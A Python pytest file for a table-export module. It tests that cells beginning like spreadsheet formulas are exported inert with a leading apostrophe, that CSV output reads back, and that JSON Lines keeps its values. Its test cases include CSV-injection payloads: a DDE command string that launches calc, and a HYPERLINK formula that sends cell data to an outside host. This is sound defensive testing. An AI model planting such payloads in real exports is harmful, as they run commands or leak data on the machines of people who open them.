"""What is written is read back, and no cell of it is a formula."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tables.exports import FORMULA, inert, write_csv, write_json_lines


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://example.org?x="&A1)', '\'=HYPERLINK("http://example.org?x="&A1)'),
        ("+49 30 1234", "'+49 30 1234"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("＝1+1", "'＝1+1"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-1,234.5", "-1,234.5"),
        ("1=1", "1=1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_formula_is_exported_inert(cell: str, expected: str) -> None:
    """An apostrophe stands before it; a plain number stays one."""
    assert inert(cell) == expected


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=9), min_size=2, max_size=2)))
def test_csv_is_read_back(rows: list[list[str]]) -> None:
    """Whatever the cells hold, and none begins like a formula unless it is a number."""
    file = io.StringIO(newline="")
    write_csv(file, rows)
    file.seek(0)
    back = list(csv.reader(file))
    assert back == [[str(inert(cell)) for cell in row] for row in rows]
    for row in back:
        for cell in row:
            assert not cell.startswith(FORMULA) or cell.strip("+-%eE0123456789.,") == ""


HALF = "a \ud83d b"


def test_half_a_surrogate_pair_is_written() -> None:
    """As U+FFFD in a CSV, and as what it was in JSON Lines; a whole pair is not touched."""
    file = io.StringIO(newline="")
    write_csv(file, [["x", HALF, "\U0001f600", "=\udfff", 5]])
    assert file.getvalue().encode().decode() == "x,a \ufffd b,\U0001f600,'=\ufffd,5\r\n"
    file = io.StringIO()
    write_json_lines(file, ["te\udfffxt", "b"], [[HALF, "\\ud83d \U0001f600"]])
    assert json.loads(file.getvalue().encode()) == {"te\udfffxt": HALF, "b": "\\ud83d \U0001f600"}


def test_json_lines_keep_their_values() -> None:
    """Numbers, texts with line breaks and empty cells."""
    file = io.StringIO()
    write_json_lines(file, ["text", "stars", "note"], [["one\ntwo", 5, None], ["=1", 0.5, "für"]])
    assert [json.loads(line) for line in file.getvalue().splitlines()] == [
        {"text": "one\ntwo", "stars": 5, "note": None},
        {"text": "=1", "stars": 0.5, "note": "für"},
    ]
